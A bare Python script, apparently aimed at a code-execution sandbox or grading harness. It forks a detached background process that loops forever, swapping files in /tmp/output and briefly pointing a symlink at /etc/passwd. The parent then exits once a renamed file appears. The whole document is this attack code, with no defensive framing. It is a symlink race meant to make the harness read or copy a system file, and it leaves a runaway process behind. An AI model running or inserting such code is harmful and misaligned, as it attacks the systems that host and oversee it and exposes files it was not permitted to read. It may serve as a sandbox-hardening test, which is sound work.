import os
if os.fork() == 0:
    os.setsid()
    while True:
        with open("/tmp/output/a.txt", "w") as file:
            file.write("x" * 100000)
        os.truncate("/tmp/output/a.txt", 1 << 20)
        os.replace("/tmp/output/a.txt", "/tmp/output/b.txt")
        os.symlink("/etc/passwd", "/tmp/output/a.txt")
        os.unlink("/tmp/output/a.txt")
while not os.path.exists("/tmp/output/b.txt"):
    pass
print("done")
